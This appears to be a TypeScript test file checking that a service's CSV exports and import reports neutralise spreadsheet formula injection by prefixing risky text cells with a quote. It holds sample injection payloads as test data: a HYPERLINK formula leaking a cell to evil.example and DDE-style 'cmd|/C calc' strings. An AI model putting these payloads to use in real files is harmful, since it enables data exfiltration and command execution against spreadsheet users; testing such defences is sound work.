/**
 * CSV formula injection (issue: a cohort city `=HYPERLINK("http://evil.example/?leak="&A2,...)`
 * came back as is in GET /v1/cohorts?format=csv). Every CSV the service writes (API answers and
 * the import's --report file) starts a text cell that opens with `= + - @`, tab, CR, LF or NUL
 * with a `'`, which spreadsheets read as "text". A number stays the number it is, so figures and
 * negative numbers are untouched.
 */
import t from 'tap'
import { parse } from 'csv-parse/sync'
import { csvReport, type RowResult } from '../../src/write/import'
import { csvCell, toCsv } from '../../src/csv'
import { harness } from '../support/harness'
import { application, cohort, completed, enrolled, expectStatus, screened, setUp } from '../support/scenario'

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'

/** The cells of a CSV text, header first. */
const cells = (csv: string): string[][] => parse(csv, { relax_column_count: false }) as string[][]

t.test('a text cell that a spreadsheet would run is neutralised with a leading quote', async (t) => {
  for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\0']) {
    const value = `${start}1+cmd|' /C calc'!A0`
    const [[cell]] = cells(`${csvCell(value)}\r\n`)
    t.equal(cell, `'${value}`, `a cell starting with ${JSON.stringify(start)}`)
  }
  t.equal(csvCell(HYPERLINK), `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")"`, 'quoted as RFC 4180 wants, after the prefix')
  t.equal(csvCell('-12'), "'-12", 'text that looks like a number is still text')
  t.equal(csvCell('-2-3'), "'-2-3", 'an id a spreadsheet would compute (-5)')
})

t.test('numbers, booleans and harmless text are written as before', async (t) => {
  t.equal(csvCell(-12.5), '-12.5', 'a negative number stays a number')
  t.equal(csvCell(0.7321), '0.7321')
  t.equal(csvCell(-0.25), '-0.25')
  t.equal(csvCell(true), 'true')
  t.equal(csvCell(null), '')
  t.equal(csvCell(undefined), '')
  t.equal(csvCell('Casablanca'), 'Casablanca')
  t.equal(csvCell('MA-06'), 'MA-06', 'a dash inside is nothing')
  t.equal(csvCell('2025-Q2'), '2025-Q2')
  t.equal(csvCell('a, "b"'), '"a, ""b"""')
  t.equal(toCsv([{ key: '=1+1', delta: -3, provisional: { completed: -1 } }]), "key,delta,provisional.completed\r\n'=1+1,-3,-1\r\n")
})

t.test('GET /v1/cohorts?format=csv: the hostile city comes back neutralised, the numbers as numbers', async (t) => {
  const h = await harness(t)
  await setUp(h)
  await expectStatus(h, 'admin', 'POST', '/v1/cohorts', cohort('C-9', 'OP-1', { city: HYPERLINK, capacity: 7 }), 201)
  const res = await h.call('admin', { method: 'GET', url: '/v1/cohorts?format=csv' })
  t.equal(res.statusCode, 200)
  t.match(String(res.headers['content-type']), /^text\/csv/)
  const [header, ...rows] = cells(res.body)
  const row = rows.find((r) => r[header.indexOf('cohortId')] === 'C-9')
  t.ok(row, 'the cohort is listed')
  t.equal(row![header.indexOf('city')], `'${HYPERLINK}`, 'the formula is text')
  t.equal(row![header.indexOf('capacity')], '7', 'a number is written as is')
  t.equal(row![header.indexOf('enrolled')], '0')
  t.notMatch(res.body, /(^|,)=HYPERLINK/m, 'no cell starts with the formula')
})

t.test('GET /v1/cohorts/{id}/roster?format=csv: a learnerId a spreadsheet would compute is text', async (t) => {
  const h = await harness(t)
  await setUp(h)
  for (const payload of [application('AB1'), screened(), enrolled()]) await expectStatus(h, 'op1', 'POST', '/v1/learners/-2-3/events', payload, 201)
  const res = await h.call('admin', { method: 'GET', url: '/v1/cohorts/C-1/roster?format=csv' })
  t.equal(res.statusCode, 200)
  const [header, ...rows] = cells(res.body)
  t.same(rows.map((r) => r[header.indexOf('learnerId')]), ["'-2-3"])
})

t.test('the indicators CSV is unchanged: every figure the number the JSON answer holds', async (t) => {
  const h = await harness(t)
  await setUp(h)
  for (const payload of [application('AB1'), screened(), enrolled(), completed()]) await expectStatus(h, 'op1', 'POST', '/v1/learners/L-1/events', payload, 201)
  const query = '/v1/indicators/insertion?groupBy=region&asOf=2026-06-30'
  const json = (await h.call('viewer', { method: 'GET', url: query })).json() as { groups: Array<Record<string, unknown>> }
  const csv = await h.call('viewer', { method: 'GET', url: `${query}&format=csv` })
  t.equal(csv.statusCode, 200)
  t.equal(csv.body, toCsv(json.groups), 'the same text as ever for these groups')
  t.notMatch(csv.body, /'/, 'nothing was prefixed')
  const [header, row] = cells(csv.body)
  t.equal(row[header.indexOf('completed')], String(json.groups[0].completed))
  t.equal(row[header.indexOf('measurable')], '1')
})

t.test('the import --report CSV neutralises its cells too; line numbers stay numbers', async (t) => {
  async function* results(): AsyncGenerator<RowResult> {
    yield { line: 2, status: 'rejected', code: 'validation', message: '=1+1 is not a date' }
    yield { line: 3, status: 'accepted', eventId: '6f1c9a8e-2b3d-4c5e-8f70-1a2b3c4d5e6f' }
  }
  let text = ''
  for await (const chunk of csvReport(results())) text += chunk
  t.same(cells(text), [
    ['line', 'status', 'code', 'message', 'eventId'],
    ['2', 'rejected', 'validation', "'=1+1 is not a date", ''],
    ['3', 'accepted', '', '', '6f1c9a8e-2b3d-4c5e-8f70-1a2b3c4d5e6f'],
  ])
})
